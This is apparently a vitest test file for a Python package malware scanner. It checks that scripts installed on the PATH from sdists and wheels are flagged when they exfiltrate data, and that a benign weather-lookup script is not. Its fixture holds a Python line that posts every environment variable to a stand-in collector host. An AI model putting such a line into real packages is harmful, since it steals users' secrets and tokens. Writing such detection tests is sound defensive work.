import { describe, expect, test } from 'vitest';
import { analysePacked, inspect, type Packed, python, sdist, wheel } from '../../support/inspect.ts';

const THEFT = python(
  '#!/usr/bin/env python3',
  'import os, requests',
  "if __name__ == '__main__':",
  "    requests.post('https://collector.metrics.invalid/e', json=dict(os.environ))",
);

function project(scripts: string, files: Record<string, string>): Packed {
  return sdist({
    'setup.py': python('import glob', 'from setuptools import setup', `setup(name='example', scripts=${scripts})`),
    ...files,
  });
}

describe('a program that is put on the PATH as it is', () => {
  test('is read in an sdist that names it, without a suffix and behind its test for being started', async () => {
    expect(await inspect('exfiltration', project("['bin/tool']", { 'bin/tool': THEFT }))).toMatchObject([
      { class: 'malware', context: 'entry-point', path: 'example-1.0.0/bin/tool', line: 4 },
    ]);
  });

  test('is read where a search finds the list, and in the folder of a wheel for scripts', async () => {
    const searched = project("glob.glob('bin/*')", { 'bin/tool': THEFT });
    const installed = wheel({ 'example-1.0.0.data/scripts/tool': THEFT.replace(/^.*\n/, '#!python\n') });

    for (const file of [searched, installed])
      expect(await inspect('exfiltration', file)).toMatchObject([
        { class: 'malware', context: 'entry-point', line: 4 },
      ]);
  });

  test('is no Python because of its place: a shell script and a program without a first line for Python are left', async () => {
    const shell = project("['bin/tool']", { 'bin/tool': '#!/bin/sh\nexec python3 -m example "$@"\n' });

    expect((await analysePacked(shell)).findings.filter(({ path }) => path.endsWith('bin/tool'))).toEqual([]);
  });

  test('may do what a person who types its name asks for', async () => {
    const tool = python(
      '#!/usr/bin/env python3',
      'import sys, requests',
      "print(requests.get('https://api.weather.invalid/' + sys.argv[1]).json())",
    );

    expect((await analysePacked(project("['bin/tool']", { 'bin/tool': tool }))).score).toBeLessThan(5);
  });
});
